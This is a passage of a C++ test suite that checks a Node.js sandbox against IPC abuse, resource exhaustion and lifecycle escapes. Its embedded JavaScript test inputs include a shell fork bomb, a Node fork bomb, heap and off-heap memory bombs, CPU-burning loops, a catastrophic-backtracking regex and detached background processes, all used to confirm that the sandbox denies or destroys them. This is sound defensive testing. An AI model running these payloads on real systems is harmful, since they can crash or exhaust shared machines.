  auto forged = run("ipc02", code);
  EXPECT_EQ(forged.status, Status::protocol_error) << forged.error;
  EXPECT_EQ(forged.destroyed, "protocol_error");
  auto next = run("ipc02", code, Value{{"fd3", true}});
  EXPECT_TRUE(next.fresh_sandbox);
}

TEST_F(EscapeNode, IPC_05_MalformedFrames) {
  RuntimeConfig config;
  config.max_frame_bytes = 1u << 20;
  pool(config);
  const std::string code = R"(async (a) => {
    const fs = require('fs');
    if (a.kind === 'invalidUtf8') fs.writeSync(1, Buffer.from([0x7b, 0xff, 0xfe, 0x7d, 0x0a]));
    if (a.kind === 'huge') { const s = 'x'.repeat(1 << 16); for (let i = 0; i < 40; i++) fs.writeSync(1, s); }
    if (a.kind === 'interleaved') {
      const one = '{"type":"log","id":1,"level":"log","text":"one"}\n';
      const two = '{"type":"log","id":1,"level":"log","text":"two"}\n';
      fs.writeSync(1, one.slice(0, 20));
      await new Promise((r) => setTimeout(r, 1));
      fs.writeSync(1, two);
    }
    if (a.kind === 'truncated') { fs.writeSync(1, '{"type":"result","id":1,"val'); process.exit(0); }
    return new Promise(() => {});
  })";
  for (const char* kind : {"invalidUtf8", "huge", "interleaved"}) {
    auto out = run("ipc05", code, Value{{"kind", kind}});
    EXPECT_EQ(out.status, Status::protocol_error) << kind << ": " << out.error;
    EXPECT_EQ(out.destroyed, "protocol_error") << kind;
  }
  auto truncated = run("ipc05", code, Value{{"kind", "truncated"}});
  EXPECT_EQ(truncated.status, Status::crashed) << truncated.error;
  EXPECT_EQ(truncated.destroyed, "crashed");
}

TEST_F(EscapeNode, IPC_06_CloseOrExitMidCall) {
  const std::string code = R"(async (a) => {
    const fs = require('fs');
    if (a.kind === 'closeStdout') fs.closeSync(1);
    if (a.kind === 'closeStdin') fs.closeSync(0);
    if (a.kind === 'exit0') process.exit(0);
    if (a.kind === 'partialThenExit') { fs.writeSync(1, '{"type":"result","id":'); process.exit(0); }
    if (a.kind === 'exitOnNextTick') { process.nextTick(() => process.exit(0)); return 'too late'; }
    await new Promise((r) => setTimeout(r, 50));
    return 'unreachable';
  })";
  for (const char* kind : {"closeStdout", "exit0", "partialThenExit"}) {
    auto out = run("ipc06", code, Value{{"kind", kind}}, 2s);
    EXPECT_EQ(out.status, Status::crashed) << kind << ": " << out.error;
    EXPECT_EQ(out.destroyed, "crashed") << kind;
  }
  // Closing fd 0: this call still sends a complete, valid result; the next
  // one cannot be delivered and destroys the sandbox (it times out).
  auto stdin_closed = run("ipc06", code, Value{{"kind", "closeStdin"}}, 2s);
  EXPECT_EQ(stdin_closed.status, Status::ok) << stdin_closed.error;
  auto undeliverable = run("ipc06", code, Value{{"kind", "none"}}, 1s);
  EXPECT_NE(undeliverable.status, Status::ok) << undeliverable.value.dump();
  EXPECT_TRUE(undeliverable.destroyed.has_value());
  auto fresh = run("ipc06", code, Value{{"kind", "none"}}, 2s);
  EXPECT_EQ(fresh.status, Status::ok) << fresh.error;
  EXPECT_TRUE(fresh.fresh_sandbox);
}

// --- H. Resource exhaustion ------------------------------------------------------

TEST_F(EscapeNode, RES_01_SynchronousInfiniteLoop) {
  auto out = run("res01", "() => { for (;;) {} }", Value::object(), 500ms);
  EXPECT_EQ(out.status, Status::timeout) << out.error;
  EXPECT_EQ(out.destroyed, "timeout");
  EXPECT_TRUE(pool().sandboxes().empty());
}

TEST_F(EscapeNode, RES_02_NeverSettling) {
  const std::string code = R"((a) => {
    if (a.kind === 'interval') { setInterval(() => {}, 1); return new Promise(() => {}); }
    return new Promise(() => {});
  })";
  for (const char* kind : {"promise", "interval"}) {
    auto out = run("res02", code, Value{{"kind", kind}}, 300ms);
    EXPECT_EQ(out.status, Status::timeout) << kind << ": " << out.error;
    EXPECT_EQ(out.destroyed, "timeout") << kind;
  }
}

TEST_F(EscapeNode, RES_04_HeapBomb) {
  RuntimeConfig config;
  config.heap_limit_mb = 64;
  pool(config);
  auto out = run("res04", "() => { const keep = []; for (;;) keep.push(new Array(1e5).fill(7)); }");
  EXPECT_EQ(out.status, Status::crashed) << out.error;
  EXPECT_EQ(out.destroyed, "crashed");
  auto next = run("res04", "() => 'fresh'");
  EXPECT_EQ(next.status, Status::ok);
  EXPECT_TRUE(next.fresh_sandbox);
}

TEST_F(EscapeNode, RES_05_OffHeapBomb) {
  RuntimeConfig config;
  config.heap_limit_mb = 64;
  pool(config);
  const std::uint64_t limit_mb = static_cast<std::uint64_t>(config.heap_limit_mb) + kNodeOffHeapMb;
  // Each kind stops at twice the limit, so that a sandbox without RLIMIT_DATA
  // fails this test instead of exhausting the machine.
  auto out = run("res05", tool(R"(
    const keep = [], cap = a.cap_mb;
    let buffers = 0, arrays = 0, wasm = 0;
    try { while (buffers < cap) { keep.push(Buffer.alloc(16 << 20, 1)); buffers += 16; } } catch (e) { }
    keep.length = 0;
    try {
      while (arrays < cap) { keep.push(new Uint8Array(new ArrayBuffer(16 << 20)).fill(1)); arrays += 16; }
    } catch (e) { }
    keep.length = 0;
    try {
      const m = new WebAssembly.Memory({ initial: 1, maximum: 65536 });
      while (wasm < cap) { m.grow(256); wasm += 16; }
    } catch (e) { }
    return { buffers, arrays, wasm };
  )"), Value{{"cap_mb", 2 * limit_mb}});
  if (out.status == Status::ok) {  // refused allocations: bounded by RLIMIT_DATA
    for (const char* kind : {"buffers", "arrays", "wasm"}) {
      EXPECT_LT(out.value[kind].get<std::uint64_t>(), limit_mb) << kind;
    }
  } else {  // or V8 gave up first: the sandbox is destroyed
    EXPECT_EQ(out.status, Status::crashed) << out.error;
  }
}

TEST_F(EscapeNode, RES_07_BurnCpuOnTheThreadPool) {
  auto out = run("res07", tool(R"(
    const crypto = require('crypto'), zlib = require('zlib');
    process.title = 'tky-burning';
    for (let i = 0; i < 64; i++) crypto.pbkdf2('p', 's', 1e8, 64, 'sha512', () => {});
    for (let i = 0; i < 16; i++) zlib.gzip(Buffer.alloc(1 << 20), () => {});
    return new Promise(() => {});
  )"), Value::object(), 500ms);
  EXPECT_EQ(out.status, Status::timeout) << out.error;
  EXPECT_EQ(out.destroyed, "timeout");
  EXPECT_TRUE(pool().sandboxes().empty());
}

TEST_F(EscapeNode, RES_08_ForkBomb) {
  auto out = run("res08", tool(R"(
    const cp = require('child_process');
    const out = {};
    const bomb = 'for(;;)require("child_process").fork()';
    for (let i = 0; i < 3; i++) out['fork' + i] = t(() => cp.fork('-e', [bomb]).pid);
    out.spawnShell = t(() => cp.spawn('/bin/sh', ['-c', ':(){ :|:& };:']).pid);
    return out;
  )"));
  ExpectDenied(out, {"ERR_ACCESS_DENIED"});
  ASSERT_EQ(pool().sandboxes().size(), 1u);
  EXPECT_EQ(sandbox_processes(pool().sandboxes()[0].pid), only_the_sandbox(pool().sandboxes()[0].pid));
}

TEST_F(EscapeNode, RES_10_CrashTheRuntime) {
  const std::string code = R"((a) => {
    if (a.kind === 'recursion') { const f = () => f(); return f(); }
    if (a.kind === 'regex') return /^(a+)+$/.test('a'.repeat(64) + '!');
    if (a.kind === 'abort') process.abort();
    return process.pid;
  })";
  auto recursion = run("res10", code, Value{{"kind", "recursion"}});
  EXPECT_EQ(recursion.status, Status::tool_error) << recursion.error;
  EXPECT_NE(recursion.error.find("RangeError"), std::string::npos) << recursion.error;
  auto regex = run("res10", code, Value{{"kind", "regex"}}, 500ms);
  EXPECT_EQ(regex.status, Status::timeout) << regex.error;
  auto warm = run("res10", code, Value{{"kind", "pid"}});
  ASSERT_EQ(pool().sandboxes().size(), 1u);
  const std::string workdir = pool().sandboxes()[0].workdir;
  auto abort = run("res10", code, Value{{"kind", "abort"}});
  EXPECT_EQ(abort.status, Status::crashed) << abort.error;
  EXPECT_NE(abort.error.find("SIGABRT"), std::string::npos) << abort.error;
  EXPECT_FALSE(fs::exists(workdir));  // destroyed; and no core file was written anywhere (RLIMIT_CORE = 0)
  EXPECT_FALSE(fs::exists(home_ / "core"));
}

// --- I. Lifecycle --------------------------------------------------------------------

TEST_F(EscapeNode, LIFE_03_BlockTheAbortPath) {
  pool();  // made before the caller thread uses it
  std::atomic<bool> done{false};
  CallOutcome out;
  std::thread caller([&] {
    out = run("life03", tool(R"(
      process.on('SIGTERM', () => {}); process.on('SIGINT', () => {});
      process.title = 'tky-blocking';
      for (;;) {}
    )"), Value::object(), 60s);
    done = true;
  });
  int pid = -1;
  for (int i = 0; i < 1000 && (pid < 0 || comm_of(pid) != "tky-blocking"); ++i) {
    std::this_thread::sleep_for(10ms);
    const auto infos = pool().sandboxes();
    pid = infos.size() == 1 ? infos[0].pid : -1;
  }
  ASSERT_EQ(comm_of(pid), "tky-blocking");
  pool().terminate("sha256:escape-life03", "user aborted");  // never waits on the child
  caller.join();
  EXPECT_TRUE(done);
  EXPECT_EQ(out.status, Status::crashed) << out.error;
  EXPECT_EQ(out.destroyed, "user aborted");
  EXPECT_TRUE(process_gone(pid));
}

TEST_F(EscapeNode, LIFE_04_OrphanAGrandchild) {
  auto out = run("life04", tool(R"(
    const cp = require('child_process');
    const out = {
      detached: t(() => cp.spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'],
                                 { detached: true, stdio: 'ignore' }).unref()),
      shell: t(() => cp.exec('sleep 1000 &')),
      worker: t(() => new (require('worker_threads').Worker)('setInterval(() => {}, 1000)', { eval: true })),
    };
    setInterval(() => {}, 1000);  // and the sandbox itself keeps a timer alive
    return out;
  )"));
  ExpectDenied(out, {"ERR_ACCESS_DENIED"});
  ASSERT_EQ(pool().sandboxes().size(), 1u);
  const int pid = pool().sandboxes()[0].pid, sid = session_of(pid);
  EXPECT_EQ(sandbox_processes(pid), only_the_sandbox(pid));
  pool().terminate("sha256:escape-life04");
  EXPECT_TRUE(session_members(sid).empty());
  EXPECT_TRUE(process_gone(pid));
}

}  // namespace
}  // namespace taskyon::sandbox
